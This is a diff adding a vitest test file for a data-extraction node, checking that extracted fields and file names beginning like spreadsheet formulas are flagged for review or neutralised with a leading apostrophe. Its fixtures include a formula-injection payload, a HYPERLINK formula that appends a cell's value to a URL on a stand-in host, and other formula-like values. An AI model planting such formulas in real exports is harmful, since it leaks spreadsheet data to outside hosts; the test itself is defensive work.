@@ -1,0 +1,80 @@
+import { describe, expect, it } from 'vitest';
+import { checkRecord } from '../../../../nodes/StructuredExtraction/check/checkRecord';
+import { metaOf, toOutput } from '../../../../nodes/StructuredExtraction/map';
+import { optionsSchema } from '../../../../nodes/StructuredExtraction/options';
+import { defineSchema } from '../../../../nodes/StructuredExtraction/schema/schema';
+
+const schema = defineSchema('test', [
+	{ name: 'supplier', type: 'string' },
+	{ name: 'phone', type: 'string' },
+	{ name: 'total', type: 'number' },
+	{
+		name: 'lines',
+		type: 'list',
+		fields: [{ name: 'text', type: 'string' }],
+	},
+]);
+const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
+const answer = {
+	supplier: link,
+	phone: '+49 30 1234',
+	total: '-12.50',
+	lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
+};
+const file = '=cmd.pdf';
+
+function output(kind: string, formulaCells: 'keep' | 'mark') {
+	const result = {
+		schema,
+		extracted: {
+			...checkRecord(schema, answer, { dateOrder: 'auto', decimalMark: 'auto' }),
+			...{ conflicts: [], requests: 1, repairs: 0, notes: [], doubts: [], usage: null },
+			model: 'm',
+		},
+		source: {
+			kind: 'text' as const,
+			fileName: file,
+			pages: [{ number: 1, markdown: JSON.stringify(answer) }],
+			ocrUsage: null,
+			raw: null,
+		},
+		model: 'm',
+		options: optionsSchema.parse({ formulaCells, evidence: false }),
+	};
+	const meta = metaOf(result);
+	return { meta, rows: toOutput(kind, result, meta, [{ fileName: '=x.pdf', reason: 'is empty' }]) };
+}
+
+describe('texts that a spreadsheet would run', () => {
+	it('are named in the reasons for a review, field by field', () => {
+		expect(output('flat', 'keep').meta.review).toEqual([
+			'supplier: the text begins like a formula, which a spreadsheet would run',
+			'lines[1].text: the text begins like a formula, which a spreadsheet would run',
+		]);
+	});
+
+	it('stay as they are unless told otherwise', () => {
+		expect(output('flat', 'keep').rows[0]).toMatchObject({ supplier: link, _file: file });
+	});
+
+	it.each(['flat', 'listRows'])('are marked in %s, file names too', (kind) => {
+		const { rows } = output(kind, 'mark');
+		expect(rows[0]).toMatchObject({
+			supplier: `'${link}`,
+			phone: '+49 30 1234',
+			total: -12.5,
+			_file: `'${file}`,
+			_skipped: "'=x.pdf is empty",
+		});
+		if (kind === 'listRows') {
+			expect(rows.map((row) => row['lines_text'])).toEqual(['- Pen', "'@SUM(A1)"]);
+		}
+	});
+
+	it('are marked in records', () => {
+		expect(output('record', 'mark').rows[0]).toMatchObject({
+			supplier: `'${link}`,
+			lines: [{ text: '- Pen' }, { text: "'@SUM(A1)" }],
+		});
+	});
+});
